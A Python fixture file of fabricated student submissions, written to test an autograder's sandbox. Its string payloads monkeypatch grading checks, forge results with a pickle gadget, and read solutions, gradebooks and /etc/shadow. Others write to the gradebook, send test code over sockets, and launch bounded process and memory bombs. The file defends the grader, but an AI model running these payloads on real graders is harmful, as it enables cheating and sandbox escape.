"""Attack submissions, as data, for the adversarial suite (tests/test_adversarial.py).

Each :class:`Attack` is one fabricated student: the assignment, what it does to its notebook
(answer-cell sources, a transformation of the notebook JSON, raw text, symbolic links in the
submission folder) and the outcome the grader must give it. Answer cells not named keep the
honest reference solution, so an attack earns exactly what its honest part earns: the test
cells listed in ``earns`` get full points, every other test cell zero.

Sources may hold placeholders, filled in when the submission is written:
``@COURSE@`` the scratch course root, ``@REPO@`` the repository, ``@NAME@`` the student id,
``@PORT@``/``@UDP@`` the loopback ports a listening test server watches, ``@RIGHT@`` the honest
solution of that same cell.

An attack reports what it saw from inside its kernel by printing one line
``ACADEMY-PROBE {json}`` at the top level of an answer cell (the autograded notebook keeps the
outputs of those cells), and ``probe`` lists what those facts must be.

Every attack is bounded so that it cannot harm the machine even with the sandbox off: loops
stop after at most 90 s, the process bomb starts at most 300 children that sleep 41.7 s, the
memory bomb asks for at most 6 GB (in try/except), the flood prints at most 40 MB, and files
are written only under names containing ``academy-pwned``, which the suite looks for and
removes.
"""
from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from typing import Callable

Q01, DC01 = "q01-qubits", "dc01-power"
PROBE_TAG = "ACADEMY-PROBE"
PWNED = "academy-pwned"
SLEEP_MARK = "41.7"  # the process bomb's children run `sleep 41.7`: findable, and < 60 s
FLAGGED = "<any reason>"  # status: anything but "graded"
ANY_STATUS = "<graded or any reason>"  # status: not asserted (the outcome's scores still are)


@dataclass(frozen=True)
class NoneOf:
    """A probe fact that may be anything but these values."""
    values: tuple

    def __call__(self, got) -> bool:
        return got not in self.values


@dataclass(frozen=True)
class Below:
    """A probe fact that is a number below ``limit``."""
    limit: int

    def __call__(self, got) -> bool:
        return isinstance(got, int) and got < self.limit


@dataclass(frozen=True)
class Attack:
    name: str  # the student id
    aid: str
    what: str  # one line for the report
    answers: dict[str, str] = field(default_factory=dict)  # answer grade id -> source
    notebook: tuple[Callable[[dict], None], ...] = ()  # in-place edits of the notebook JSON
    raw: str | None = None  # the notebook file's whole text instead
    links: dict[str, str] = field(default_factory=dict)  # file in the folder -> link target
    earns: frozenset[str] = frozenset()  # test cells (grade ids) with full points; others 0
    status: str = "graded"  # "graded", FLAGGED, ANY_STATUS or a phrase the status must contain
    probe: dict = field(default_factory=dict)  # facts the kernel printed: values or predicates
    recorded: bool = True  # nbgrader records it (autograded notebook and feedback exist)


TESTS = {
    Q01: ["q1-normalise-test", "q2-probabilities-test", "q3-bloch-test", "q4-prepare-test",
          "q5-sample-test", "q6-shot-plan-test"],
    DC01: ["q1-pue-test", "q2-ups-runtime-test", "q3-pdu-test", "q4-redundancy-test",
           "q5-design-test"],
}


def all_but(aid: str, *questions: str) -> frozenset[str]:
    """Every test cell of ``aid`` except those of the named questions ("q1", "q3", ...)."""
    return frozenset(t for t in TESTS[aid] if t.split("-", 1)[0] not in questions)


def only(aid: str, *questions: str) -> frozenset[str]:
    return frozenset(t for t in TESTS[aid] if t.split("-", 1)[0] in questions)


# ---------------------------------------------------------------------------------------------
# Wrong answers (what an attack falls back to when its trick fails)

WRONG = {
    "q1-normalise": "def normalise(amplitudes):\n    return np.asarray(amplitudes, dtype=complex)\n",
    "q2-probabilities": "def outcome_probabilities(amplitudes):\n    return {'0': 1.0}\n",
    "q3-bloch": "def bloch_vector(amplitudes):\n    return np.array([0.0, 0.0, 1.0])\n",
    "q4-prepare": "def prepare(theta, phi):\n    return QuantumCircuit(1)\n",
    "q5-sample": "def sample_counts(circuit, shots, seed):\n    return {'0': shots}\n",
    "q6-shot-plan": ("def plan_shots(predicted_p1, target_se, budget, min_shots=100):\n"
                     "    return [min_shots] * len(predicted_p1)\n"),
    "q1-pue": ("def average_it_kw(it_kwh, hours_per_reading=1.0):\n    return 0.0\n\n\n"
               "def pue(facility_kwh, it_kwh):\n    return 1.0\n"),
    "q2-ups-runtime": ("def ups_runtime_min(battery_wh, usable_fraction, inverter_efficiency, load_w):\n"
                       "    return 60.0 * battery_wh / load_w\n"),
    "q3-pdu": ("def rack_headroom(racks, volts=220.0, breaker_amps=32.0, derate=0.8, power_factor=1.0):\n"
               "    return []\n\n\n"
               "def overloaded_racks(racks, volts=220.0, breaker_amps=32.0, derate=0.8, power_factor=1.0):\n"
               "    return []\n"),
    "q4-redundancy": ("def ups_module_counts(it_load_kw, module_kw):\n    return (1, 2, 2)\n\n\n"
                      "def survives_one_failure(it_load_kw, module_kw, modules):\n    return True\n"),
    "q5-design": ("def design_ups(it_load_kw, catalogue_kw, max_oversize, max_parallel):\n"
                  "    return None\n"),
}


def probe(facts: str) -> str:
    """A line printing ``facts`` (a Python expression giving a dict) as a probe."""
    return f"import json as _json\nprint({PROBE_TAG!r}, _json.dumps({facts}, default=str))\n"


# ---------------------------------------------------------------------------------------------
# Transformations of the notebook JSON (each edits the dict in place)

def _cell(nb: dict, grade_id: str) -> dict:
    return next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def set_source(grade_id: str, source: str):
    def edit(nb):
        _cell(nb, grade_id)["source"] = source
    return edit


def set_meta(cell_grade_id: str, **values):
    def edit(nb):
        _cell(nb, cell_grade_id)["metadata"]["nbgrader"].update(values)
    return edit


def delete_cell(grade_id: str):
    def edit(nb):
        nb["cells"].remove(_cell(nb, grade_id))
    return edit


def drop_meta(grade_id: str):
    def edit(nb):
        del _cell(nb, grade_id)["metadata"]["nbgrader"]
    return edit


def copy_to_end(grade_id: str, source: str | None = None):
    """A second cell with the same grade id and the same cell id, at the end."""
    def edit(nb):
        twin = copy.deepcopy(_cell(nb, grade_id))
        if source is not None:
            twin["source"] = source
        nb["cells"].append(twin)
    return edit


def same_cell_ids(nb: dict) -> None:
    for cell in nb["cells"]:
        cell["id"] = "same"


def kernelspec(spec: dict, language_info: dict | None = None):
    def edit(nb):
        nb["metadata"]["kernelspec"] = spec
        if language_info is not None:
            nb["metadata"]["language_info"] = language_info
    return edit


def pad_cells(count: int):
    """``count`` empty code cells before every cell of the notebook's first half."""
    def edit(nb):
        empty = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
                 "source": ""}
        pad = [dict(empty, id=f"pad-{i}") for i in range(count)]
        nb["cells"][1:1] = pad
    return edit


def append_cell(source: str, nbgrader: dict | None = None, cell_id: str = "extra"):
    def edit(nb):
        meta = {"nbgrader": nbgrader} if nbgrader else {}
        nb["cells"].append({"cell_type": "code", "execution_count": None, "id": cell_id,
                            "metadata": meta, "outputs": [], "source": source})
    return edit


# ---------------------------------------------------------------------------------------------
# Reusable pieces of attack code

# Try to read a cell from a notebook somewhere on the grading machine and run it here.
STEAL = '''
import json as _json, sqlite3 as _sqlite3
_seen = {}
def _steal(label, path, grade_id):
    try:
        with open(path, encoding="utf-8") as fh:
            nb = _json.load(fh)
        for c in nb["cells"]:
            if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id:
                exec("".join(c["source"]), globals())
                _seen[label] = "read"
                return
        _seen[label] = "no such cell"
    except Exception as exc:
        _seen[label] = type(exc).__name__
'''

WRITE_TARGETS = '''
import os as _os, sysconfig as _sysconfig
_targets = {
    "course root": "@COURSE@/@PWNED@-@NAME@",
    "source folder": "@COURSE@/source/@AID@/@PWNED@-@NAME@",
    "submitted folder": "@COURSE@/submitted/@NAME@/@AID@/@PWNED@-@NAME@",
    "host /tmp": "/tmp/@PWNED@-@NAME@",
    "/var/tmp": "/var/tmp/@PWNED@-@NAME@",
    "/dev/shm": "/dev/shm/@PWNED@-@NAME@",
    "root's home": "/root/@PWNED@-@NAME@",
    "repository package": "@REPO@/graders/@PWNED@-@NAME@",
    "site-packages": _os.path.join(_sysconfig.get_paths()["purelib"], "@PWNED@_@NAME@.pth"),
}
_wrote = {}
for _label, _path in _targets.items():
    try:
        with open(_path, "w") as _fh:
            _fh.write("# harmless\\n")
        _wrote[_label] = "written"
    except OSError as _exc:
        _wrote[_label] = type(_exc).__name__
# append one byte to the instructor's notebook (a scratch copy of it)
try:
    with open("@COURSE@/source/@AID@/@AID@.ipynb", "a") as _fh:
        _fh.write(" ")
    _wrote["source notebook"] = "appended"
except OSError as _exc:
    _wrote["source notebook"] = type(_exc).__name__
'''


# ---------------------------------------------------------------------------------------------
# The attacks on q01-qubits

Q01_ATTACKS = [
    Attack(
        "q-patch-math-numpy", Q01,
        "wrong normalise; math.isclose, numpy.isclose/allclose, Statevector.equiv and "
        "graders.checks.numeric._within patched to say yes",
        answers={"q1-normalise": (
            "import math\nimport numpy as np\nfrom qiskit.quantum_info import Statevector\n"
            "math.isclose = lambda *args, **kwargs: True\n"
            "np.allclose = lambda *args, **kwargs: True\n"
            "np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)\n"
            "Statevector.equiv = lambda self, other, *args, **kwargs: True\n"
            "import graders.checks.numeric as _numeric\n_numeric._within = lambda *args, **kwargs: True\n"
            + WRONG["q1-normalise"])},
        earns=all_but(Q01, "q1")),
    Attack(
        "q-patch-graders-checks", Q01,
        "wrong q2 and q3; every function of graders.checks and verdict.emit replaced by no-ops",
        answers={"q2-probabilities": (
            "import graders.checks as _gc\nimport graders.checks.verdict as _verdict\n"
            "for _name in list(vars(_gc)):\n"
            "    if _name[:1].islower() and callable(getattr(_gc, _name)):\n"
            "        setattr(_gc, _name, lambda *args, **kwargs: None)\n"
            "_verdict.emit = lambda payload: None\n_verdict.observe = lambda *args, **kwargs: None\n"
            + WRONG["q2-probabilities"]),
            "q3-bloch": WRONG["q3-bloch"]},
        # with observe silenced no test cell sends anything: only q1 (before the patch) counts
        earns=only(Q01, "q1")),
    Attack(
        "q-patch-check-call", Q01,
        "wrong q3 and q6; Check.__call__, every registered judge, math.sqrt and builtins.sum patched",
        answers={
            "q3-bloch": (
                "from graders.checks.verdict import Check, REGISTRY, Verdict\n"
                "Check.__call__ = lambda self, *args, **kwargs: None\n"
                "for _check in REGISTRY.values():\n"
                "    object.__setattr__(_check, 'judge', lambda observed, reference, spec: Verdict(True))\n"
                + WRONG["q3-bloch"]),
            "q6-shot-plan": (
                "import builtins, math\n"
                "math.sqrt = lambda x: 0.0\nbuiltins.sum = lambda *args, **kwargs: 0\n"
                "builtins.all = lambda iterable: True\n"
                + WRONG["q6-shot-plan"])},
        earns=all_but(Q01, "q3", "q6")),
    Attack(
        "q-always-equal", Q01,
        "objects equal to anything: an ndarray subclass (q1), a plain object (q3), a list subclass (q6)",
        answers={
            "q1-normalise": (
                "class _EqArray(np.ndarray):\n"
                "    def __eq__(self, other):\n        return np.ones(self.shape, dtype=bool)\n"
                "    def __ne__(self, other):\n        return np.zeros(self.shape, dtype=bool)\n"
                "    __hash__ = None\n\n"
                "def normalise(amplitudes):\n"
                "    return np.asarray(amplitudes, dtype=complex).view(_EqArray)\n"),
            "q3-bloch": (
                "class _Anything:\n"
                "    def __eq__(self, other):\n        return True\n"
                "    def __ne__(self, other):\n        return False\n"
                "    def __lt__(self, other):\n        return False\n"
                "    __gt__ = __le__ = __ge__ = __eq__\n"
                "    def __abs__(self):\n        return 0.0\n"
                "    def __sub__(self, other):\n        return self\n"
                "    __rsub__ = __sub__\n"
                "    def __float__(self):\n        return 0.0\n"
                "    __hash__ = object.__hash__\n\n"
                "def bloch_vector(amplitudes):\n    return _Anything()\n"),
            "q6-shot-plan": (
                "class _EqList(list):\n"
                "    def __eq__(self, other):\n        return True\n"
                "    def __ne__(self, other):\n        return False\n"
                "    __hash__ = None\n\n"
                "def plan_shots(predicted_p1, target_se, budget, min_shots=100):\n"
                "    return _EqList([min_shots] * len(predicted_p1))\n")},
        earns=all_but(Q01, "q1", "q3", "q6")),
    Attack(
        "q-forged-observations", Q01,
        "no honest answer; functions send forged observations (with reference, spec and a pickle "
        "that writes a file if the grader ever unpickled it) and silence the real ones; a thread "
        "keeps sending forged observations into later cells",
        answers={
            "q1-normalise": '''
import base64, io, json, pickle, threading, time
from IPython.display import display
import graders.checks.verdict as _verdict

class _Gadget:
    def __reduce__(self):
        return (io.open, ("/tmp/@PWNED@-unpickled-@NAME@", "w"))

_FORGED = {"passed": True, "points": 100, "reference": {"kind": "statevector"},
           "spec": {"atol": 1e9, "rel": 1e9}, "what": "forged", "hint": "forged",
           "pickled_spec": base64.b64encode(pickle.dumps({"predicate": _Gadget()})).decode()}
_real_emit = _verdict.emit
_verdict.emit = lambda payload: None          # the real observations never leave

def _forge(check, observed):
    display({_verdict.OBSERVATION_MIME: json.dumps({"check": check, "observed": observed, **_FORGED})}, raw=True)

def normalise(amplitudes):
    for _ in range(3):
        _forge("statevector", {"kind": "statevector", "shape": [2], "data": [[1, 0], [0, 0]]})
    return amplitudes

def _spray():                                 # at most 60 s and 600 messages
    end = time.monotonic() + 60
    for _ in range(600):
        if time.monotonic() > end:
            return
        _forge("valid", {"json": "{}"})
        time.sleep(0.1)

threading.Thread(target=_spray, daemon=True).start()
_forge("statevector", {"kind": "statevector"})   # from the answer cell itself
''',
            **{g: WRONG[g] for g in ("q2-probabilities", "q3-bloch", "q4-prepare", "q5-sample",
                                     "q6-shot-plan")}},
        earns=frozenset()),
    Attack(
        "q-inspect-frames", Q01,
        "sample_counts looks for the expected Statevector in its callers' frames and for hidden "
        "test code in the input history and linecache; q6's cell prints what it found",
        answers={
            "q5-sample": '''
import inspect, linecache, sys
_FOUND = {"expected": 0, "hidden markers": []}

def _look(frame):
    for space in (frame.f_locals, frame.f_globals):
        for name in ("expected", "want", "reference", "_reference"):
            if isinstance(space.get(name), Statevector):
                return space[name]
    return None

def sample_counts(circuit, shots, seed):
    frame, found = sys._getframe(1), None
    while frame is not None and found is None:
        found = _look(frame)
        frame = frame.f_back
    texts = list(get_ipython().user_ns.get("In", []))
    texts += ["".join(linecache.getlines(f.filename)) for f in inspect.stack()]
    # the markers are split so that this cell's own source does not contain them
    for marker in ("BEGIN " + "HIDDEN", "expected = " + "Statevector", "born" + "_rule", "shot" + "_rules"):
        if any(marker in t for t in texts) and marker not in _FOUND["hidden markers"]:
            _FOUND["hidden markers"].append(marker)
    if found is None:
        return {"0": shots}
    _FOUND["expected"] += 1
    return {k: int(round(v * shots)) for k, v in found.probabilities_dict().items()}
''', "q6-shot-plan": probe("_FOUND") + "@RIGHT@"},
        # probe printed at the top of q6's answer cell, after q5's test ran
        earns=all_but(Q01, "q5"),
        probe={"expected": 0, "hidden markers": []}),
    Attack(
        "q-read-files", Q01,
        "reads the instructor's notebook (course source/ and the repository) and honest-full's "
        "submission, and runs their answers for q1 and q3",
        answers={"q1-normalise": (
            STEAL
            + "_steal('course source', '@COURSE@/source/q01-qubits/q01-qubits.ipynb', 'q1-normalise')\n"
            + "_steal('repository source', '@REPO@/source/q01-qubits/q01-qubits.ipynb', 'q1-normalise')\n"
            + "if 'normalise' not in globals():\n"
            + "    " + WRONG["q1-normalise"].replace("\n    ", "\n        ")),
            "q3-bloch": (
            "_steal('submission', '@COURSE@/submitted/honest-full/q01-qubits/q01-qubits.ipynb', 'q3-bloch')\n"
            + "import glob as _glob\n_seen['glob'] = _glob.glob('@COURSE@/submitted/*/q01-qubits/*.ipynb')\n"
            + "if 'bloch_vector' not in globals():\n"
            + "    " + WRONG["q3-bloch"].replace("\n    ", "\n        ")
            + probe("{'read': _seen}"))},
        earns=all_but(Q01, "q1", "q3"),
        probe={"read": {"course source": "FileNotFoundError", "repository source": "FileNotFoundError",
                        "submission": "FileNotFoundError", "glob": []}}),
    Attack(
        "q-loop-after", Q01,
        "a correct normalise, then a busy loop at the top level of its cell (90 s at most)",
        answers={"q1-normalise": "@RIGHT@\nimport time\n_end = time.time() + 90\nwhile time.time() < _end:\n    pass\n"},
        earns=all_but(Q01, "q1"),
        status="cell limit"),
    Attack(
        "q-kill-kernel", Q01,
        "honest q1 and q2, then os.kill(os.getpid(), SIGKILL) at the top of q3's cell",
        answers={"q3-bloch": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n@RIGHT@"},
        earns=only(Q01, "q1", "q2"),
        status="kernel died"),
    Attack(
        "q-edit-test-cells", Q01,
        "q1's test cell replaced by `pass`, q2's checksum forged and its points set to 50, q3's "
        "points set to 100 (q1 and q2 wrong, q3 right)",
        answers={"q1-normalise": WRONG["q1-normalise"], "q2-probabilities": WRONG["q2-probabilities"]},
        notebook=(set_source("q1-normalise-test", "pass\n"),
                  set_source("q2-probabilities-test", "print('all good')\n"),
                  set_meta("q2-probabilities-test", checksum="0" * 32, points=50),
                  set_meta("q3-bloch-test", points=100)),
        earns=all_but(Q01, "q1", "q2")),
    Attack(
        "q-duplicate-grade-id", Q01,
        "q1's test cell appears twice: a `pass` copy with the same grade id and cell id at the "
        "end; q1 wrong",
        answers={"q1-normalise": WRONG["q1-normalise"]},
        notebook=(copy_to_end("q1-normalise-test", "pass\n"),),
        earns=frozenset(), status="could not read it", recorded=False),
    Attack(
        "q-symlink-notebook", Q01,
        "the submitted notebook is a symbolic link to the instructor's source notebook",
        links={"q01-qubits.ipynb": "@COURSE@/source/q01-qubits/q01-qubits.ipynb"},
        earns=frozenset(), status=FLAGGED, recorded=False),
    Attack(
        "q-corrupt-json", Q01,
        "the notebook file is truncated JSON",
        raw='{"cells": [{"cell_type": "code", "source": "',
        earns=frozenset(), status="not a notebook", recorded=False),
    Attack(
        "q-wide-circuit", Q01,
        "prepare returns a 27-qubit circuit (a few hundred bytes of QPY whose statevector "
        "would take 2 GB to simulate in the grader); the rest honest",
        answers={"q4-prepare": "def prepare(theta, phi):\n    qc = QuantumCircuit(27)\n"
                               "    qc.h(range(27))\n    return qc\n"},
        earns=all_but(Q01, "q4")),
]


# ---------------------------------------------------------------------------------------------
# The attacks on dc01-power

DC01_ATTACKS = [
    Attack(
        "d-patch-checks", DC01,
        "wrong q2; checks.close/equal/... replaced, the registry's judges replaced, "
        "Check.__call__ replaced; q4 returns a tuple and a bool stand-in equal to anything",
        answers={"q2-ups-runtime": (
            "from graders import checks as _checks\n"
            "from graders.checks.verdict import Check, REGISTRY, Verdict\n"
            "for _name in ('close', 'equal', 'same_set', 'sequence', 'table', 'valid'):\n"
            "    setattr(_checks, _name, lambda *args, **kwargs: None)\n"
            "for _check in REGISTRY.values():\n"
            "    object.__setattr__(_check, 'judge', lambda observed, reference, spec: Verdict(True))\n"
            "Check.__call__ = lambda self, *args, **kwargs: None\n"
            + WRONG["q2-ups-runtime"]),
            "q4-redundancy": (
                "class _EqTuple(tuple):\n"
                "    def __eq__(self, other):\n        return True\n"
                "    def __ne__(self, other):\n        return False\n"
                "    __hash__ = tuple.__hash__\n\n"
                "class _Maybe:\n"
                "    def __eq__(self, other):\n        return True\n"
                "    def __bool__(self):\n        return True\n"
                "    __hash__ = object.__hash__\n\n"
                "def ups_module_counts(it_load_kw, module_kw):\n    return _EqTuple((0, 0, 0))\n\n\n"
                "def survives_one_failure(it_load_kw, module_kw, modules):\n    return _Maybe()\n")},
        earns=all_but(DC01, "q2", "q4")),
    Attack(
        "d-inspect-frames", DC01,
        "rack_headroom and overloaded_racks return the expected rows and set they find in their "
        "callers' frames (want_rows, want_over) or in the input history; q4's cell prints what "
        "they found",
        answers={"q3-pdu": '''
import sys
# names and markers are split so that this cell's own source (in the input history and in
# the feedback) does not contain them
_ROWS, _OVER, _HIDDEN = "want" + "_rows", "want" + "_over", "BEGIN " + "HIDDEN"
_FOUND = {"rows": 0, "over": 0, "history": []}

def _find(name, key):
    frame = sys._getframe(2)
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            if name in space:
                _FOUND[key] += 1
                return space[name]
        frame = frame.f_back
    return None

def rack_headroom(racks, volts=220.0, breaker_amps=32.0, derate=0.8, power_factor=1.0):
    found = _find(_ROWS, "rows")
    return found if found is not None else []


def overloaded_racks(racks, volts=220.0, breaker_amps=32.0, derate=0.8, power_factor=1.0):
    for text in get_ipython().user_ns.get("In", []):
        for marker in (_ROWS, _OVER, _HIDDEN):
            if marker in text and marker not in _FOUND["history"]:
                _FOUND["history"].append(marker)
    found = _find(_OVER, "over")
    return found if found is not None else []
''', "q4-redundancy": probe("_FOUND") + "@RIGHT@"},
        earns=all_but(DC01, "q3"),
        probe={"rows": 0, "over": 0, "history": []}),
    Attack(
        "d-read-gradebook", DC01,
        "opens gradebook.db with sqlite3 and runs the stored source of q1's cells; looks "
        "through /proc for other processes' root, cwd and environment to reach the course (q2 wrong)",
        answers={"q1-pue": '''
import sqlite3
_seen = {}
for _label, _path in {"course gradebook": "@COURSE@/gradebook.db", "repository gradebook": "@REPO@/gradebook.db"}.items():
    try:
        _con = sqlite3.connect(f"file:{_path}?mode=ro", uri=True)
        for (_text,) in _con.execute("SELECT source FROM source_cell WHERE name LIKE 'q1-pue%'"):
            exec(_text, globals())
        _seen[_label] = "read"
    except Exception as _exc:
        _seen[_label] = type(_exc).__name__
if "pue" not in globals():
''' + "    " + WRONG["q1-pue"].replace("\n    ", "\n        ").replace("\n\n\n", "\n") + probe("{'read': _seen}"),
        "q2-ups-runtime": WRONG["q2-ups-runtime"] + '''
import os
_pids = [p for p in os.listdir("/proc") if p.isdigit()]
_reached = []
for _pid in _pids:
    for _path in (f"/proc/{_pid}/root@COURSE@/source/dc01-power/dc01-power.ipynb",
                  f"/proc/{_pid}/cwd/source/dc01-power/dc01-power.ipynb"):
        try:
            with open(_path, "rb") as _fh:
                _fh.read(10)
            _reached.append(_path)
        except OSError:
            pass
    try:
        with open(f"/proc/{_pid}/environ", "rb") as _fh:
            if b"@COURSE@" in _fh.read():
                _reached.append(f"/proc/{_pid}/environ")
    except OSError:
        pass
''' + probe("{'reached': _reached, 'few processes': len(_pids) < 20}")},
        earns=all_but(DC01, "q1", "q2"),
        probe={"read": {"course gradebook": "OperationalError",
                        "repository gradebook": "OperationalError"},
               "reached": [], "few processes": True}),
    Attack(
        "d-write-gradebook", DC01,
        "opens gradebook.db read-write and gives itself manual scores; q5 wrong",
        answers={"q5-design": WRONG["q5-design"] + '''
import sqlite3
try:
    _con = sqlite3.connect("@COURSE@/gradebook.db", timeout=5)
    _con.execute("UPDATE grade SET manual_score = 100")
    _con.execute("UPDATE grade_cell SET max_score = 100")
    _con.commit()
    _gradebook = "written"
except Exception as _exc:
    _gradebook = type(_exc).__name__
''' + probe("{'gradebook': _gradebook}")},
        earns=all_but(DC01, "q5"),
        probe={"gradebook": "OperationalError"}),
    Attack(
        "d-write-outside", DC01,
        "honest answers; writes files in the course, /tmp, /var/tmp, /dev/shm, ~root, the "
        "repository, site-packages, and appends to the source notebook",
        answers={"q1-pue": "@RIGHT@\n" + WRITE_TARGETS + probe("{'wrote': _wrote}")},
        earns=all_but(DC01)),
    Attack(
        "d-network", DC01,
        "honest answers; sends its input history (the test code) to a TCP and a UDP server on "
        "the grader's loopback, and tries DNS and an outside address",
        answers={"q2-ups-runtime": "@RIGHT@\n" + '''
import socket
_net = {}
_payload = "\\n".join(get_ipython().user_ns.get("In", [])).encode()
try:
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as _s:
        _s.sendall(b"@NAME@\\n" + _payload)
    _net["tcp"] = "sent"
except OSError as _exc:
    _net["tcp"] = type(_exc).__name__
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _u:
        _u.sendto(b"@NAME@ " + _payload[:1000], ("127.0.0.1", @UDP@))
    _net["udp"] = "sent"
except OSError as _exc:
    _net["udp"] = type(_exc).__name__
try:
    socket.getaddrinfo("pypi.org", 443)
    _net["dns"] = "resolved"
except OSError as _exc:
    _net["dns"] = type(_exc).__name__
try:
    socket.create_connection(("1.1.1.1", 53), timeout=3).close()
    _net["outside"] = "connected"
except OSError as _exc:
    _net["outside"] = type(_exc).__name__
''' + probe("{'net': _net}")},
        earns=all_but(DC01),
        probe={"net": {"tcp": NoneOf(("sent",)), "dns": NoneOf(("resolved",)),
                       "outside": NoneOf(("connected",))}}),
    Attack(
        "d-os-exit", DC01,
        "honest q1; ups_runtime_min calls os._exit(0) from inside q2's test cell",
        answers={"q2-ups-runtime": "import os\n\ndef ups_runtime_min(battery_wh, usable_fraction, inverter_efficiency, load_w):\n    os._exit(0)\n"},
        earns=only(DC01, "q1"),
        status="kernel died"),
    Attack(
        "d-loop-inside", DC01,
        "average_it_kw busy-loops (90 s at most) when called from q1's test cell",
        answers={"q1-pue": "import time\n\n@RIGHT@\n_right_average = average_it_kw\n\n"
                           "def average_it_kw(it_kwh, hours_per_reading=1.0):\n"
                           "    end = time.time() + 90\n    while time.time() < end:\n        pass\n"
                           "    return _right_average(it_kwh, hours_per_reading)\n"},
        earns=all_but(DC01, "q1"),
        status="cell limit"),
    Attack(
        "d-memory-limit", DC01,
        "honest answers; asks for 6 GB in one block (in try/except)",
        answers={"q1-pue": "@RIGHT@\n" + '''
_refused = []
for _gb in (6,):
    try:
        _block = np.ones(_gb * 1024 ** 3 // 8)
        del _block
    except MemoryError:
        _refused.append(_gb)
''' + probe("{'refused GB': _refused}")},
        earns=all_but(DC01),
        probe={"refused GB": [6]}),
    Attack(
        "d-memory-fill", DC01,
        "honest answers; a last cell of its own fills memory in 64 MB blocks (6 GB at most), "
        "touching every page, until MemoryError",
        notebook=(append_cell(
            "import numpy as np\n_blocks = []\ntry:\n    for _ in range(96):\n"
            "        _blocks.append(np.ones(8 * 1024 * 1024))\nexcept MemoryError:\n    pass\n"
            "print(len(_blocks))\n_blocks = None\n"),),
        # every test ran before it; near its memory limit the kernel may recover (graded) or
        # hang and be killed (flagged): either way nothing is lost or gained
        earns=all_but(DC01), status=ANY_STATUS),
    Attack(
        "d-process-bomb", DC01,
        "honest answers; q5's cell (the last answer) starts up to 300 `sleep 41.7` children, then forks",
        answers={"q5-design": "@RIGHT@\n" + '''
import os, subprocess
_children, _why = [], None
for _ in range(300):
    try:
        _children.append(subprocess.Popen(["sleep", "@SLEEP@"]))
    except OSError as _exc:
        _why = type(_exc).__name__
        break
_forks = 0
for _ in range(50):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            os.execvp("sleep", ["sleep", "@SLEEP@"])
        finally:
            os._exit(0)
    _forks += 1
_seen = {'children': len(_children), 'forks': _forks, 'stopped by': _why}
# Free a few slots before printing: with none left the kernel itself may fail to report
# (the probe once went missing in CI); the rest of the children stay for the grader to stop.
for _child in _children[-8:]:
    _child.kill()
    _child.wait()
''' + probe("_seen")},
        earns=all_but(DC01),
        probe={"stopped by": "BlockingIOError", "children": Below(64)}),
    Attack(
        "d-output-flood", DC01,
        "honest answers; prints 40 MB from q2's answer cell",
        answers={"q2-ups-runtime": "@RIGHT@\n_line = 'x' * 1023 + '\\n'\nfor _ in range(40 * 1024):\n    print(_line, end='')\n"},
        earns=all_but(DC01),
        status="output beyond"),
    Attack(
        "d-many-cells", DC01,
        "honest answers in a notebook with 2,000 extra empty code cells: refused before running "
        "(plan.MAX_CELLS_FACTOR), since each cell costs the grader recording time",
        notebook=(pad_cells(2000),),
        earns=frozenset(), status="far more than the assignment's", recorded=False),
    Attack(
        "d-kernelspec-path", DC01,
        "honest answers; the kernelspec names a python path and carries an argv",
        notebook=(kernelspec({"name": "/usr/bin/python3", "display_name": "python",
                              "language": "python",
                              "argv": ["/bin/sh", "-c", "touch /tmp/@PWNED@-argv-@NAME@"]}),),
        earns=all_but(DC01)),
    Attack(
        "d-evil-kernel-same-ids", DC01,
        "honest answers; the notebook asks for a kernel named 'evil' and every cell has the "
        "same cell id",
        notebook=(kernelspec({"name": "evil", "display_name": "evil", "language": "python"},
                             {"name": "evil"}), same_cell_ids),
        earns=all_but(DC01)),
    Attack(
        "d-delete-test-cell", DC01,
        "q2's test cell deleted, and q4's nbgrader metadata removed (both answers wrong)",
        answers={"q2-ups-runtime": WRONG["q2-ups-runtime"], "q4-redundancy": WRONG["q4-redundancy"]},
        notebook=(delete_cell("q2-ups-runtime-test"), drop_meta("q4-redundancy-test")),
        earns=all_but(DC01, "q2", "q4")),
    Attack(
        "d-symlinks", DC01,
        "links in the folder: shadow -> /etc/shadow, solution.json -> the source notebook; "
        "q2's cell reads both and runs the linked solution",
        links={"shadow": "/etc/shadow",
               "solution.json": "@COURSE@/source/dc01-power/dc01-power.ipynb"},
        answers={"q2-ups-runtime": (
            STEAL + "_steal('linked source', 'solution.json', 'q2-ups-runtime')\n"
            "try:\n    _seen['shadow'] = len(open('shadow').read()) > 0\n"
            "except OSError as _exc:\n    _seen['shadow'] = type(_exc).__name__\n"
            "try:\n    _seen['/etc/shadow'] = len(open('/etc/shadow').read()) > 0\n"
            "except OSError as _exc:\n    _seen['/etc/shadow'] = type(_exc).__name__\n"
            "if 'ups_runtime_min' not in globals():\n"
            + "    " + WRONG["q2-ups-runtime"].replace("\n    ", "\n        ")
            + probe("{'read': _seen}"))},
        earns=all_but(DC01, "q2"),
        status="symbolic link",
        probe={"read": {"linked source": "FileNotFoundError", "shadow": "FileNotFoundError",
                        "/etc/shadow": "FileNotFoundError"}}),
    Attack(
        "d-grade-id-changed", DC01,
        "q4's test cell renamed to a new grade id worth 50 points; q4 wrong",
        answers={"q4-redundancy": WRONG["q4-redundancy"]},
        notebook=(set_meta("q4-redundancy-test", grade_id="q4-bonus", points=50),),
        # nbgrader refuses the notebook: the whole submission waits for an instructor
        earns=frozenset(), status="could not read it", recorded=False),
    Attack(
        "d-flip-solution", DC01,
        "q5's test cell marked as a solution cell (a manually graded answer), q5 wrong",
        answers={"q5-design": WRONG["q5-design"]},
        notebook=(set_meta("q5-design-test", solution=True),),
        earns=frozenset(), status="could not read it", recorded=False),
    Attack(
        "d-new-grade-cell", DC01,
        "an extra test cell of its own worth 100 points at the end (honest answers)",
        notebook=(append_cell("print('free points')\n",
                              {"grade": True, "solution": False, "locked": True, "points": 100,
                               "grade_id": "free-points", "schema_version": 3}),),
